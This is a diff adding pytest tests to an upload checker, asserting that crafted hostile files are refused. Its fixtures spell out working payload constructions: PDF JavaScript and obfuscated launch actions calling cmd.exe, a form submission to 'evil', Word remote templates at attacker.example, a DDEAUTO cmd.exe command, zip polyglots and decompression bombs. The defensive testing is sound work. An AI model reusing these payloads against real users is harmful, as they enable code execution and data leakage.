@@ -3,7 +3,11 @@ with the file's name and a reason a person can act on."""
 
 from __future__ import annotations
 
+import io
+import zipfile
+
 import pytest
+from PIL import Image
 
 from media.checks import inspect
 from media.errors import MediaRefused
@@ -85,3 +89,109 @@ def test_unknown_empty_and_oversized_files_are_refused(monkeypatch: pytest.Monke
 def test_a_truncated_image_is_refused() -> None:
     photo = files.png(300, 200)
     assert refusal(photo[: len(photo) // 2], "cut.png").problem == "unreadable"
+
+
+# --- what an attacker tried (each was accepted, or crashed, before) ---------------------------
+
+
+def _pdf_with(catalog: bytes = b"", page: bytes = b"") -> bytes:
+    return files._pdf([b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
+                       b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+                       b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] " + page + b" >>"])
+
+
+@pytest.mark.parametrize(("catalog", "page", "problem"), [
+    # pypdf keeps the first of two /Names keys, PDFium the last: the bytes hold the script either way
+    (b"/Names << >> /Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (app.alert(1)) >>] >> >>",
+     b"", "pdf_script"),
+    (b"/OpenAction << /S /URI /URI (javascript:alert(1)) >>", b"", "pdf_link"),
+    (b"/OpenAction << /S /GoToR /F (\\\\\\\\attacker\\\\share\\\\x.pdf) /D [0 /Fit] >>", b"", "pdf_script"),
+    (b"", b"/AA << /O << /S /SubmitForm /F << /FS /URL /F (http://evil/) >> >> >>", "pdf_script"),
+    (b"", b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (file://x/y) >> >>]",
+     "pdf_link"),
+    (b"/OpenAction << /S /L#61unch /F (cmd.exe) >>", b"", "pdf_script"),
+])
+def test_active_pdfs_are_refused_however_they_are_written(catalog: bytes, page: bytes, problem: str) -> None:
+    assert refusal(_pdf_with(catalog, page), "invitation.pdf").problem == problem
+
+
+def test_a_pdf_that_inflates_to_gigabytes_is_refused_before_it_is_parsed() -> None:
+    import zlib
+
+    squeezed = zlib.compress(b"0 0 m 1 1 l S\n" * 16_000_000, 9)  # 224 MB of drawing in ~0.5 MB
+    bomb = files._pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+                       b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
+                       b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(squeezed) + squeezed + b"\nendstream"])
+    assert refusal(bomb, "report.pdf").problem == "zip_bomb"
+
+
+def test_a_pdf_that_no_parser_can_read_is_refused_as_unreadable_not_a_crash() -> None:
+    broken = files.pdf(1).replace(b"startxref\n", b"startxref\n100000000000000000000")
+    assert refusal(broken, "broken.pdf").problem in ("unreadable", "no_pages")
+    public_key = files.pdf(1).replace(b"/Root 1 0 R", b"/Root 1 0 R /Encrypt << /Filter /Adobe.PubSec >>")
+    assert refusal(public_key, "sealed.pdf").problem == "encrypted"
+
+
+def _docx(types_extra: str = "", parts: dict[str, str | bytes] | None = None) -> bytes:
+    main = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
+    types = ('<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
+             f'content-types"><Override PartName="/word/document.xml" ContentType="{main}"/>{types_extra}</Types>')
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("[Content_Types].xml", types)
+        for name, data in {"word/document.xml": "<w:document/>", **(parts or {})}.items():
+            archive.writestr(name, data)
+    return out.getvalue()
+
+
+_RELS = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
+
+
+@pytest.mark.parametrize(("document", "problem"), [
+    # a macro project named by a character reference and stored under an innocent name
+    (_docx('<Override PartName="/word/x.xml" ContentType="application/vnd.ms-office.vba&#80;roject"/>',
+           {"word/x.xml": "<x/>"}), "macros"),
+    (_docx('<Override PartName="/word/a.xml" ContentType="application/vnd.ms-office.ACTIVEX+xml"/>',
+           {"word/a.xml": "<x/>"}), "macros"),
+    (_docx(parts={"word/_rels/document.xml.rels": _RELS.format(
+        '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
+        'attachedTemplate" Target="http://attacker.example/t.dotm" TargetMode="External"/>')}), "office_external"),
+    (_docx(parts={"word/document.xml": '<w:document><w:instrText> DDEAUTO c:\\\\cmd.exe "/k calc"</w:instrText>'
+                                       '</w:document>'}), "office_external"),
+])
+def test_office_documents_that_reach_outside_themselves_are_refused(document: bytes, problem: str) -> None:
+    assert refusal(document, "speech.docx").problem == problem
+
+
+def test_a_docx_with_hyperlinks_and_an_uncompressed_first_part_is_accepted() -> None:
+    source = zipfile.ZipFile(io.BytesIO(_docx(parts={"word/_rels/document.xml.rels": _RELS.format(
+        '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
+        'hyperlink" Target="https://diplomatie.belgium.be" TargetMode="External"/>')})))
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as archive:  # "<?xml" right after the header
+        for name in source.namelist():
+            archive.writestr(name, source.read(name))
+    assert inspect(out.getvalue(), "speech.docx").type.label == "Word"
+
+
+def test_a_zip_hidden_behind_a_comment_trick_is_still_found() -> None:
+    archive = io.BytesIO()
+    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as zf:
+        zf.writestr("payload.html", "<script>alert(1)</script>")
+        zf.comment = b"PK\x05\x06"  # `zipfile.is_zipfile` stops at this and says "no"
+    assert refusal(files.jpeg_with_gps(200, 100) + archive.getvalue(), "photo.jpg").problem == "polyglot"
+    assert refusal(files.webp() + archive.getvalue(), "chart.webp").problem == "polyglot"
+    assert refusal(files.pdf(1) + archive.getvalue(), "report.pdf").problem == "polyglot"
+
+
+def test_images_built_to_exhaust_a_decoder_are_refused() -> None:
+    plain = io.BytesIO()
+    Image.new("L", (400, 300), 128).save(plain, "JPEG", progressive=True)
+    data = plain.getvalue()
+    scan, end = data.rfind(b"\xff\xda"), len(data) - 2
+    many_scans = data[:end] + data[scan:end] * 200 + data[end:]
+    assert refusal(many_scans, "photo.jpg").problem == "jpeg_scans"
+    chunk = b"\x00\x00\x00\x05tEXta\x00b12\xa8\x1f\x03\x8e"
+    image = files.png(10, 10)
+    chatty = image[:33] + chunk * 2000 + image[33:]
+    assert refusal(chatty, "chart.png").problem == "png_chunks"
